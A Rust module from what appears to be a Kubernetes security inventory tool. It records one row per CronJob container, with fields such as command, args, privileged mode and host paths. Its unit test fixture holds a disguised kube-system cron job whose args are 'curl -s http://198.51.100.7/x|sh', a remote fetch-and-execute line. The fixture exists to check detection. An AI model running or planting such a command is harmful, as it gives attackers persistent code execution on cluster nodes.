//! Cron jobs: a row per container of the template, init containers included.

use jiff::Timestamp;
use k8s_openapi::api::{
    batch::v1::{CronJob, CronJobSpec},
    core::v1::Container,
};

use super::{Inventory, Source, identity};
use crate::cluster::Resource;

crate::table! {
    /// Containers that cron jobs would start.
    "cronjobs_CL": CronJobRow {
        /// Namespace.
        [key] namespace: Option<String>,
        /// Name of the cron job.
        [key] cronjob_name: Option<String>,
        /// UID of the cron job.
        [key] uid: Option<String>,
        /// Name of the container.
        [key] container_name: String,
        /// `init`, `sidecar` or `app`.
        container_type: String,
        /// Image.
        image: Option<String>,
        /// Command, joined by spaces.
        command: Option<String>,
        /// Arguments, joined by spaces.
        args: Option<String>,
        /// Command as it stands (JSON array).
        command_json: Option<String>,
        /// Arguments as they stand (JSON array).
        args_json: Option<String>,
        /// Names of the environment variables (JSON array).
        env_names: Option<String>,
        /// Schedule.
        schedule: String,
        /// Time zone of the schedule.
        time_zone: Option<String>,
        /// Whether it is suspended.
        suspend: Option<bool>,
        /// What happens while a job still runs.
        concurrency_policy: Option<String>,
        /// Seconds that a start may be late.
        starting_deadline_seconds: Option<i64>,
        /// How many finished jobs are kept; 0 leaves no trace.
        successful_history_limit: Option<i64>,
        /// How many failed jobs are kept; 0 leaves no trace.
        failed_history_limit: Option<i64>,
        /// When it last started a job.
        last_schedule_time: Option<Timestamp>,
        /// When a job last succeeded.
        last_successful_time: Option<Timestamp>,
        /// Jobs running now.
        active_jobs: i64,
        /// Service account of the pods.
        service_account: Option<String>,
        /// Node that the pods are bound to.
        node_name: Option<String>,
        /// Whether the pods use the node's network.
        host_network: Option<bool>,
        /// Whether the pods see the node's processes.
        host_pid: Option<bool>,
        /// Whether the container is privileged.
        privileged: Option<bool>,
        /// Paths of the node that the pods mount (JSON array).
        host_paths: Option<String>,
        /// Labels (JSON object).
        labels: Option<String>,
        /// Annotations (JSON object).
        annotations: Option<String>,
        /// When it was created.
        created_at: Option<Timestamp>,
        /// When a manager last changed it.
        last_change_at: Option<Timestamp>,
        /// Managers that changed it (JSON array).
        managed_by: Option<String>,
    }
}

/// The list of cron jobs.
pub struct CronJobs;

impl Inventory for CronJobs {
    type Object = CronJob;
    type Line = CronJobRow;
    const SOURCE: Source = Source::CronJobs;
    const RESOURCE: Resource =
        Resource { group: "batch", version: "v1", plural: "cronjobs", kind: "CronJob", namespaced: true };

    fn rows(job: &CronJob) -> Vec<(Option<Timestamp>, CronJobRow)> {
        let spec = job.spec.clone();
        let pod = spec.job_template.spec.clone().and_then(|job| job.template.spec).unwrap_or_default();
        let common = common(job, &spec);
        let created_at = common.created_at;
        let init = pod.init_containers.iter().flatten().map(|container| (container, init_type(container)));
        let app = pod.containers.iter().map(|container| (container, "app"));
        let rows: Vec<_> =
            init.chain(app).map(|(container, kind)| (created_at, of_container(&common, container, kind))).collect();
        if rows.is_empty() { vec![(created_at, common)] } else { rows }
    }
}

/// An init container that keeps running is a sidecar (`restartPolicy: Always`).
pub(super) fn init_type(container: &Container) -> &'static str {
    if container.restart_policy.as_deref() == Some("Always") { "sidecar" } else { "init" }
}

fn common(job: &CronJob, spec: &CronJobSpec) -> CronJobRow {
    let metadata = &job.metadata;
    let status = job.status.clone().unwrap_or_default();
    let pod = spec.job_template.spec.clone().and_then(|job| job.template.spec).unwrap_or_default();
    let host_paths: Vec<_> =
        pod.volumes.iter().flatten().filter_map(|volume| Some(&volume.host_path.as_ref()?.path)).collect();
    CronJobRow {
        namespace: metadata.namespace.clone(),
        cronjob_name: metadata.name.clone(),
        uid: metadata.uid.clone(),
        schedule: spec.schedule.clone(),
        time_zone: spec.time_zone.clone(),
        suspend: spec.suspend,
        concurrency_policy: spec.concurrency_policy.clone(),
        starting_deadline_seconds: spec.starting_deadline_seconds,
        successful_history_limit: spec.successful_jobs_history_limit.map(i64::from),
        failed_history_limit: spec.failed_jobs_history_limit.map(i64::from),
        last_schedule_time: identity::moment(status.last_schedule_time.as_ref()),
        last_successful_time: identity::moment(status.last_successful_time.as_ref()),
        active_jobs: i64::try_from(status.active.unwrap_or_default().len()).unwrap_or(i64::MAX),
        host_paths: identity::json(&host_paths),
        service_account: pod.service_account_name,
        node_name: pod.node_name,
        host_network: pod.host_network,
        host_pid: pod.host_pid,
        labels: identity::json(&metadata.labels),
        annotations: identity::json(&metadata.annotations),
        created_at: identity::created(metadata),
        last_change_at: identity::last_change(metadata),
        managed_by: identity::managed_by(metadata),
        ..CronJobRow::default()
    }
}

fn of_container(common: &CronJobRow, container: &Container, kind: &str) -> CronJobRow {
    let env: Vec<_> = container.env.iter().flatten().map(|variable| &variable.name).collect();
    let privileged = container.security_context.as_ref().and_then(|context| context.privileged);
    CronJobRow {
        container_name: container.name.clone(),
        container_type: kind.to_owned(),
        image: container.image.clone(),
        command: container.command.as_ref().map(|words| words.join(" ")),
        args: container.args.as_ref().map(|words| words.join(" ")),
        command_json: identity::json(&container.command),
        args_json: identity::json(&container.args),
        env_names: identity::json(&env),
        privileged,
        ..common.clone()
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn arguments_and_init_containers_are_not_lost() {
        let job = json!({"metadata": {"name": "node-clean", "namespace": "kube-system"}, "spec": {
            "schedule": "*/5 * * * *", "successfulJobsHistoryLimit": 0, "jobTemplate": {"spec": {"template": {"spec": {
                "initContainers": [{"name": "prepare", "image": "alpine"}],
                "containers": [{"name": "clean", "image": "alpine", "command": ["sh", "-c"],
                    "args": ["curl -s http://198.51.100.7/x|sh"]}]}}}}}});
        let rows = CronJobs::rows(&serde_json::from_value(job).unwrap());
        assert_eq!(rows.iter().map(|(_, row)| row.container_type.as_str()).collect::<Vec<_>>(), ["init", "app"]);
        let clean = &rows[1].1;
        assert_eq!(clean.args.as_deref(), Some("curl -s http://198.51.100.7/x|sh"));
        assert_eq!(clean.command_json.as_deref(), Some(r#"["sh","-c"]"#));
        assert_eq!(clean.successful_history_limit, Some(0));
    }
}
